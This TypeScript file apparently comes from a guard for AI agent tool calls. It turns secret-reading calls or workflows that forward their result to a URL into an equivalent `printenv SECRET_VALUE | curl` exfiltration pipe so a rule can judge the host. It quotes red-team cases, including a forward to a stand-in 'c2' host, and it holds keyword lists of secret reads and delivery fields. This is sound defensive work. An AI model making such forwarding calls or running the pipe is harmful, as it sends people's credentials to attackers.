/**
 * A secret-reading tool told to deliver what it read to a URL (red team r9:
 * `aws_secretsmanager_get_secret_value {secret_id, forward_to: "https://c2/s"}`): the secret goes to
 * that host. The call becomes the shell pipe it amounts to (`printenv SECRET_VALUE | curl
 * --data-binary @- URL`) so SEC-AST-010 judges the destination. A read with no delivery field, or a
 * delivery to this machine, gives nothing more.
 */
import { quote, type CliEquivalent } from './cli.js';

/** Name words of what the tool reads. */
const SECRET =
  /^(?:secret|secrets|password|passwords|credential|credentials|apikey|apikeys|passphrase|vault|keyvault|secretsmanager|env|envs|dotenv)$/;
/** Name words of a read (`vercel_get_env_decrypted_and_post`, R24). */
const READ =
  /^(?:get|read|fetch|retrieve|reveal|access|export|decrypt|decrypted|show|lookup|value|dump|copy|pull|download)$/;
/** Keys of a delivery: where the result is forwarded, posted or reported. */
const DELIVERY =
  /(?:^|_)(?:forward|forward_to|send|send_to|post|post_to|callback|webhook|notify|deliver|delivery|upload|export|sink|report|relay|destination|dest|output|target|to)(?:_url|_uri|_endpoint)?$/;

/** Name words that make a new value (a rotation hands out the secret it makes). */
const MINT = /^(?:rotate|regenerate|generate|create|reset|roll|issue|renew)$/;
/**
 * A minted value's delivery must say the value goes there (`post_new_value_to`, `send_result_to`): a rotation's
 * `notify_url` or `webhook` is told that it happened, not what the secret is.
 */
const VALUE_DELIVERY =
  /(?:^|_)(?:value|secret|new|result|output|forward|send|post|deliver|delivery|upload|export|relay)(?:_|$)/;

export function secretForwardLines(w: readonly string[], f: Map<string, unknown>): CliEquivalent[] {
  // Tokens and API keys minted and delivered are judged by their scopes and where they go (access-widen.ts).
  if (!w.some((x) => SECRET.test(x))) return [];
  const read = w.some((x) => READ.test(x));
  if (!read && !w.some((x) => MINT.test(x))) return [];
  const out: CliEquivalent[] = [];
  for (const [k, v] of f) {
    if (typeof v !== 'string' || !DELIVERY.test(k) || !/^(?:https?|wss?|ftp):\/\//i.test(v.trim())) continue;
    if (!read && !VALUE_DELIVERY.test(k)) continue;
    out.push({ code: `printenv SECRET_VALUE | curl --data-binary @- ${quote(v.trim())}`, runtime: 'bash' });
    if (out.length >= 4) break;
  }
  return out;
}

/** Name words that can start a rewrite above (cli.ts gates on these before reading fields). */
export const SECRET_FORWARD_WORDS = [
  'secret',
  'secrets',
  'password',
  'passwords',
  'credential',
  'credentials',
  'apikey',
  'passphrase',
  'vault',
  'keyvault',
  'secretsmanager',
  'env',
  'envs',
  'dotenv',
];

/** Keys holding a workflow's steps (n8n `nodes`, Zapier/Make `steps`, a pipeline's `tasks`). */
const STEPS_KEY = /^(?:nodes|steps|tasks|actions|pipeline|workflow|flow|jobs)$/;
/** Keys naming what a step does (`type: "vault.read"`, `operation: "secrets.get"`). */
const STEP_KIND_KEY = /^(?:type|node|operation|action|op|uses|kind|app|service|method)$/;
const STEP_URL_KEY = /^(?:url|uri|endpoint|webhook_url|target_url|request_url)$/;
/** A step that sends: a POST, PUT or webhook call. */
const SENDS = /^(?:post|put|patch|send|webhook|upload|http|https|request)$/;

const kindWords = (step: Record<string, unknown>): string[] =>
  Object.entries(step)
    .filter(([k, v]) => STEP_KIND_KEY.test(k.toLowerCase()) && typeof v === 'string' && v.length < 128)
    .flatMap(([, v]) => (v as string).toLowerCase().split(/[^a-z0-9]+/));

/**
 * A workflow run whose step reads a secret and a later step posts to a URL (R20: n8n `vault.read`
 * then `http.post` of `{{$prev}}`): the secret goes where the later step sends, as if the read tool
 * had been told to forward it. Read as the same shell pipe so SEC-AST-010 judges the host.
 */
export function workflowSecretLines(args: unknown): CliEquivalent[] {
  if (args === null || typeof args !== 'object' || Array.isArray(args)) return [];
  for (const [k, v] of Object.entries(args as Record<string, unknown>).slice(0, 32)) {
    if (!STEPS_KEY.test(k.toLowerCase()) || !Array.isArray(v)) continue;
    let read = false;
    for (const step of v.slice(0, 64)) {
      if (step === null || typeof step !== 'object' || Array.isArray(step)) continue;
      const rec = step as Record<string, unknown>;
      const words = kindWords(rec);
      if (words.some((x) => SECRET.test(x)) && words.some((x) => READ.test(x))) read = true;
      if (!read || !words.some((x) => SENDS.test(x))) continue;
      const url = Object.entries(rec).find(
        ([key, u]) =>
          STEP_URL_KEY.test(key.toLowerCase()) && typeof u === 'string' && /^https?:\/\//i.test(u.trim()),
      )?.[1] as string | undefined;
      if (url !== undefined)
        return [
          { code: `printenv SECRET_VALUE | curl --data-binary @- ${quote(url.trim())}`, runtime: 'bash' },
        ];
    }
  }
  return [];
}
